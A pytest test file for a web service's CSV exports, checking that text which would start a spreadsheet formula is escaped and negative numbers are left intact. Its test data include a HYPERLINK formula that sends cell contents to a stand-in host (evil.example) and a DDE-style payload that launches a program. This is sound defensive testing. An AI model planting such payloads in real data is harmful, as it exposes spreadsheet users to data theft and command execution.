"""CSV exports open in a spreadsheet as data: a text cell that would start a formula (a rider's
chosen email, a memo staff typed) is written with a leading quote; numbers, negative ones too,
stay numbers. The HTTP exports and the statements export share one writer (swapd.csv_safe)."""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from swapd import csv_safe
from swapd.services import catalog, statements
from swapd.store.database import Database
from tests.api.conftest import PASSWORD, Account
from tests.plans import ENERGY

FORMULA_EMAIL = '=hyperlink("//evil.example/x?"&a1,"open")@example.com'
FORMULA_MEMO = "=1+2"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=SUM(A1:A9)", "'=SUM(A1:A9)"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-", "'-"),
        ("-1500", "-1500"),
        ("+3", "+3"),
        ("-0.5", "-0.5"),
        ("-1e3", "-1e3"),
        ("plain text", "plain text"),
        ("a=b", "a=b"),
        ("", ""),
        (-1500, -1500),
        (None, None),
    ],
)
def test_a_cell_that_would_start_a_formula_is_written_as_text(value: object, written: object) -> None:
    assert csv_safe.cell(value) == written


def _csv(client: TestClient, who: Account, name: str) -> list[dict[str, str]]:
    answer = client.get(f"/api/v1/ops/exports/{name}", headers=who.headers)
    assert answer.status_code == 200, answer.text
    return list(csv.DictReader(io.StringIO(answer.text)))


def _signup(client: TestClient, db: Database, email: str) -> str:
    catalog.add_plan(db, ENERGY)
    answer = client.post(
        "/api/v1/auth/signup", json={"email": email, "password": PASSWORD, "plan_id": ENERGY.id}
    )
    assert answer.status_code == 201, answer.text
    rider_id = answer.json()["user"]["rider_id"]
    assert isinstance(rider_id, str)
    return rider_id


def test_a_riders_own_email_cannot_become_a_formula_in_riders_csv(
    client: TestClient, db: Database, support: Account
) -> None:
    rider_id = _signup(client, db, FORMULA_EMAIL)
    rows = {r["rider_id"]: r for r in _csv(client, support, "riders.csv")}
    assert rows[rider_id]["email"] == "'" + FORMULA_EMAIL.lower()


def test_a_memo_cannot_become_a_formula_in_transfers_csv(
    client: TestClient, db: Database, admin: Account, support: Account
) -> None:
    rider_id = _signup(client, db, "memo@example.com")
    answer = client.post(
        f"/api/v1/ops/riders/{rider_id}/adjustments",
        json={"units": 1500, "reason": FORMULA_MEMO},
        headers={**admin.headers, "Idempotency-Key": "adjust-1"},
    )
    assert answer.status_code == 201, answer.text
    adjusted = [r for r in _csv(client, support, "transfers.csv") if r["rider_id"] == rider_id]
    assert [(r["memo"], r["amount"]) for r in adjusted] == [("'" + FORMULA_MEMO, "1500")]


def test_the_statements_export_writes_text_as_text_and_negative_numbers_as_numbers(
    client: TestClient, db: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    rider_id = _signup(client, db, "statement@example.com")
    month = statements.Month(2026, 11)
    real = statements.statement(db, rider_id, month)
    # No id can start with '=' today; the writer must not rely on that.
    odd = dataclasses.replace(real, plan_id="=1+2", adjustment_units=-1500)

    def only(_db: Database, _month: statements.Month) -> Iterator[statements.Statement]:
        yield odd

    monkeypatch.setattr(statements, "iter_statements", only)
    path = tmp_path / "statements.csv"
    statements.export_csv(db, month, path)
    with path.open(newline="") as file:
        [row] = list(csv.DictReader(file))
    assert row["plan_id"] == "'=1+2"
    assert row["adjustment_units"] == "-1500"
    assert row["rider_id"] == rider_id
